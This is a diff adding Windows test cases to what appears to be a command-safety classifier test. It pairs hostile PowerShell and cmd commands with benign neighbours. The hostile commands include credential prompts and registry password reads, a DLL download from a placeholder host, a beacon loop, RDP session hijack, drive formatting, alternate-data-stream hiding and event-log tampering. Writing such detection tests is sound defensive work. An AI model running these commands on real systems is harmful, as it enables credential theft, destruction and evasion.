@@ -188,6 +188,23 @@ def test_posix_tactics_are_caught_and_their_neighbours_allowed(
         ("PowerShell", "Remove-Item -Path C:\\Users\\* -Recurse -Force", "ask", "destructive", "Remove-Item -Path .\\bin -Recurse -Force"),
         ("PowerShell", "$b = New-Object byte[] 1024; (New-Object Random).NextBytes($b); [IO.File]::WriteAllBytes('C:\\t\\a.doc', $b)", "ask", "destructive", "[IO.File]::WriteAllBytes('out.bin', $bytes)"),
         ("PowerShell", "Disable-NetFirewallRule -DisplayName 'x'", "deny", "persistence_evasion", "Get-NetFirewallRule -DisplayName 'x'"),
+        # third round: stored passwords, downgrades, downloads, remote access, disks, accounts, beacons
+        ("cmd", "reg query HKCU\\Software\\ORL\\WinVNC3\\Password", "ask", "credential_access", "reg query HKCU\\Software\\7-Zip"),
+        ("PowerShell", "$host.UI.PromptForCredential('Update', 'Enter password', '', '')", "ask", "credential_access", "$host.UI.RawUI.WindowTitle = 'build'"),
+        ("PowerShell", "powershell -version 2 -c whoami", "ask", "persistence_evasion", "powershell -c $PSVersionTable"),
+        ("PowerShell", "Remove-Item x.exe -Stream Zone.Identifier", "ask", "persistence_evasion", "Remove-Item x.log"),
+        ("cmd", "curl.exe -k https://x.example.com/a.dll -o C:\\Users\\Public\\a.dll", "ask", "malware", "curl.exe -s https://api.example.com/v1/status"),
+        ("PowerShell", "Copy-Item tool.exe -ToSession $s -Destination C:\\Windows\\Temp", "ask", "network_attack", "Copy-Item tool.exe -Destination C:\\Tools"),
+        ("cmd", "tscon 2 /dest:rdp-tcp#1", "ask", "network_attack", "query session"),
+        ("PowerShell", "Format-Volume -DriveLetter D -Force", "deny", "destructive", "Get-Volume -DriveLetter D"),
+        ("cmd", "manage-bde -lock D: -ForceDismount", "deny", "destructive", "manage-bde -status"),
+        ("PowerShell", "Disable-ADAccount -Identity bob", "ask", "persistence_evasion", "Get-Date"),
+        ("PowerShell", "while ($true) { $c = Invoke-RestMethod https://x.example.com/t; Start-Sleep 30 }", "ask", "malware", "$r = Invoke-RestMethod https://api.example.com/v1/status"),
+        ("PowerShell", "$p = New-Object System.IO.Pipes.NamedPipeServerStream('x')", "ask", "malware", "$p = New-Object System.IO.MemoryStream"),
+        ("cmd", "copy /b cat.jpg + loot.zip out.jpg", "ask", "exfiltration", "copy /y cat.jpg out.jpg"),
+        ("cmd", "type x.exe > C:\\t\\readme.txt:x.exe", "ask", "persistence_evasion", "type readme.txt"),
+        ("PowerShell", "Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\EventLog\\Security -Name MaxSize -Value 0", "ask", "persistence_evasion", "Get-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\W32Time"),
+        ("PowerShell", "Get-NetIPAddress; Get-NetRoute", "ask", "network_attack", "Get-NetIPAddress"),
     ],
 )  # fmt: skip
 def test_windows_tactics_are_caught_and_their_neighbours_allowed(
